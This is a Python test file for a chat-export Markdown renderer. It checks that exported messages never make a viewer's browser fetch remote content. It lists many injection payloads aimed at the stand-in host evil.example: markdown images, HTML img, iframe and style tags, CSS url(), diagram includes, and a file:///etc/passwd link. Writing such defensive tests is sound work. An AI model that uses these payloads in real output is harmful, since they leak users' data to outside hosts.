"""Messages that would fetch something from a server as soon as somebody looks at an export of them."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.exchange.exporters.stories import call, told, written
from weft.exchange.exporters.markdown import DIAGRAMS, Markdown
from weft.ledger.model import ImagePart

EVIL = "http://evil.example/?secret"
FETCHING_TAGS = frozenset(
    "audio base body embed frame iframe image img input link meta object script source style svg track video".split()
)
READERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("js-default", {"html": True, "linkify": False, "typographer": False}),
)
HOSTILE = (
    f"![a]({EVIL})", f"![a](<{EVIL}>)", f"![a]({EVIL} 'title')", "![a][r]", "![r]", "![r][]", f"[r]: {EVIL}",
    f"[![a]({EVIL})]({EVIL})", f"a ![b\nc]({EVIL})", f"- ![a]({EVIL})", f"> ![a]({EVIL})", f"# ![a]({EVIL})",
    "![a](//evil.example/x)", "![a](file:///etc/passwd)", "![a](\\\\evil\\x.png)", f"!\\[a]({EVIL})", f"\\![a]({EVIL})",
    f"\\\\![a]({EVIL})", f"`x` ![a]({EVIL}) `y`", f"``x ` ![a]({EVIL})", f"```\nx\n```\n![a]({EVIL})",
    f"~~~ a\n```\n~~~\n![a]({EVIL})", f"| a | b |\n|---|---|\n| `x | ![a]({EVIL}) | y` |", f"    ![a]({EVIL})",
    f"<img src={EVIL}>", f"<img\nsrc={EVIL}>", f"<link rel=prefetch href={EVIL}>", f"<style>@import '{EVIL}'</style>",
    f'<p style="background:url({EVIL})">', f"<iframe src={EVIL}></iframe>", f"<svg><image href={EVIL} /></svg>",
    f"<!-- --><img src={EVIL}>", f"<{EVIL}>", EVIL, f"[a]({EVIL})", f"![a [b]({EVIL})]({EVIL})", f"!&#91;a]({EVIL})",
    f"```mermaid\nflowchart\n%%{{init: {{'themeCSS': 'x{{background:url({EVIL})}}'}}}}%%\n```",
    f"~~~ {{.plantuml}}\n!include {EVIL}\n~~~", "![[embedded]]",
    "```", "`", "~~~", "\n", "\n\n", "   ", "]", "(", "!", "\\",
)  # fmt: skip
hostile_texts = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), min_size=1, max_size=5).map("".join)


class Fetches(HTMLParser):
    """The tags and attributes of a page that a browser would fetch something for."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag in FETCHING_TAGS or names & {"src", "srcset", "style", "background", "poster", "ping"}:
            self.found.append(self.get_starttag_text() or tag)


def fetches(page: str) -> list[str]:
    found = []
    for reader in READERS:
        html = Fetches()
        tokens = reader.parse(page)
        html.feed(reader.renderer.render(tokens, reader.options, {}))
        drawn = [t.info for t in tokens if t.type == "fence" and DIAGRAMS.intersection(re.findall(r"[\w-]+", t.info))]
        found += html.found + drawn
    return found


def page_of(*texts: str) -> str:
    turns: list[Any] = [
        told(i, ("user", text), call(i, arguments={"command": text}, result=text), ("assistant", text))
        for i, text in enumerate(texts, 1)
    ]
    return written(Markdown(), *turns)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_message_fetches_nothing_in_an_export(text: str) -> None:
    assert fetches(page_of(text)) == []


@pytest.mark.slow("exports sixty threads, and reads each as several viewers do")
@settings(max_examples=60)
@given(st.lists(hostile_texts, min_size=1, max_size=3))
def test_messages_together_fetch_nothing_in_an_export(texts: list[str]) -> None:
    assert fetches(page_of(*texts)) == []


@pytest.mark.parametrize("url", [EVIL, "//evil.example/x", "data:image/svg+xml,<svg/>", f"x> ![a]({EVIL})", "a)b`c"])
def test_an_image_that_is_a_part_of_a_message_is_named_and_not_fetched(url: str) -> None:
    assert fetches(written(Markdown(), told(1, ("user", [ImagePart(url)])))) == []


def test_an_image_in_a_message_is_still_shown_as_an_address() -> None:
    page = page_of(f"look: ![a chart]({EVIL})")
    assert f"> look: \\![a chart]({EVIL})" in page


def test_the_check_finds_what_would_be_fetched() -> None:
    assert fetches(f"![a]({EVIL})")
    assert fetches(f"<img src={EVIL}>")
    assert fetches("```mermaid\nx\n```")
